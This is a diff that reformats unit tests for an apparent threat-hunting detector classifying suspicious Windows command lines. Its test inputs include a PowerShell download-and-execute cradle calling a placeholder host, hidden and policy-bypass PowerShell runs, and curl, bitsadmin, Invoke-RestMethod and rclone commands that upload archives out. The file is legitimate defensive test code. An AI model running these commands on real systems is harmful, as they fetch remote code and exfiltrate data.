@@ -7,10 +7,20 @@ import { ms, normUser } from '../../src/hunt/rows.js';
 
 test('PowerShell flags: encoded, download cradle, hidden, bypass', () => {
   assert.deepEqual(execFlags('powershell.exe', 'PowerShell.EXE', 'powershell -enc SQBFAFgA'), ['powershell-encoded']);
-  assert.ok(execFlags('powershell.exe', '', "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"").includes('powershell-download'));
+  assert.ok(
+    execFlags(
+      'powershell.exe',
+      '',
+      'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x/a\')"',
+    ).includes('powershell-download'),
+  );
   assert.ok(execFlags('pwsh.exe', '', 'pwsh -WindowStyle Hidden -File a.ps1').includes('powershell-hidden'));
   assert.ok(execFlags('powershell.exe', '', 'powershell -w h -c x').includes('powershell-hidden'));
-  assert.ok(execFlags('powershell.exe', '', 'powershell -ExecutionPolicy Bypass -File C:\\ProgramData\\x.ps1').includes('powershell-bypass'));
+  assert.ok(
+    execFlags('powershell.exe', '', 'powershell -ExecutionPolicy Bypass -File C:\\ProgramData\\x.ps1').includes(
+      'powershell-bypass',
+    ),
+  );
   assert.deepEqual(execFlags('powershell.exe', '', 'powershell -NoProfile Get-Date'), []);
   // -e on a non-shell binary is not PowerShell's -EncodedCommand.
   assert.deepEqual(execFlags('notepad.exe', '', 'notepad -e x'), []);
@@ -25,7 +35,9 @@ test('archiver and upload-tool flags', () => {
   assert.ok(execFlags('rclone.exe', '', 'rclone copy a b').includes('rclone'));
   assert.ok(execFlags('curl.exe', '', 'curl.exe -T C:\\a.zip https://x').includes('curl-upload'));
   assert.ok(execFlags('curl.exe', '', 'curl.exe -o a.exe https://x').includes('upload-tool'));
-  assert.ok(execFlags('bitsadmin.exe', '', 'bitsadmin /transfer j /upload https://x C:\\a.zip').includes('bitsadmin-upload'));
+  assert.ok(
+    execFlags('bitsadmin.exe', '', 'bitsadmin /transfer j /upload https://x C:\\a.zip').includes('bitsadmin-upload'),
+  );
   assert.ok(execFlags('cmd.exe', '', 'cmd /c C:\\Users\\Public\\run.bat').includes('script-user-writable'));
 });
 
@@ -47,10 +59,16 @@ test('staging locations', () => {
 });
 
 test('transfer intent from the command line', () => {
-  assert.equal(transferIntent('powershell -c "Invoke-RestMethod -Uri https://x -Method Put -InFile C:\\a.zip"'), 'upload');
+  assert.equal(
+    transferIntent('powershell -c "Invoke-RestMethod -Uri https://x -Method Put -InFile C:\\a.zip"'),
+    'upload',
+  );
   assert.equal(transferIntent('rclone.exe copy C:\\data remote:bucket'), 'upload');
   assert.equal(transferIntent('curl.exe -T a.zip https://x'), 'upload');
-  assert.equal(transferIntent('powershell Invoke-WebRequest -Uri https://7-zip.org/a.exe -OutFile C:\\a.exe'), 'download');
+  assert.equal(
+    transferIntent('powershell Invoke-WebRequest -Uri https://7-zip.org/a.exe -OutFile C:\\a.exe'),
+    'download',
+  );
   assert.equal(transferIntent('powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\x.ps1'), 'unknown');
 });
 
